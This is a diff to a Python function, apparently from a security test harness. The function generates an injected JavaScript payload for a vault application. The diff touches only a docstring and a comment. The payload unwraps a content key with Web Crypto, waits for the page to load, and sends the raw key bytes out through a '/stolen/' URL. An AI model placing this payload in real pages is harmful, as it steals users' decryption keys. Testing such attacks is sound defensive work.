@@ -31,7 +31,10 @@ ENTRY = (
 
 
 def loot(name: str) -> str:
-    """A script that says it ran, asks for the key, unwraps the content key and carries that off in an address."""
+    """A script that says it ran, asks for the key, unwraps the content key and carries that off in an address.
+
+    It leaves when the page is complete, so that whatever else is in it has had its chance.
+    """
     return """
 (async () => {
   const told = (word) => {
@@ -50,7 +53,6 @@ def loot(name: str) -> str:
       const additionalData = new TextEncoder().encode(`afterword-vault/1 slot ${publish}`);
       const how = { name: "AES-GCM", iv: box.subarray(0, 12), additionalData };
       const content = await crypto.subtle.unwrapKey("raw", box.subarray(12), key, how, "AES-GCM", true, ["decrypt"]);
-      // Nobody leaves before the rest of the page has had its chance.
       if (document.readyState !== "complete") await new Promise((loaded) => addEventListener("load", loaded));
       const bytes = new Uint8Array(await crypto.subtle.exportKey("raw", content));
       location.href = "/stolen/NAME/" + Array.from(bytes, (byte) => byte.toString(16).padStart(2, "0")).join("");
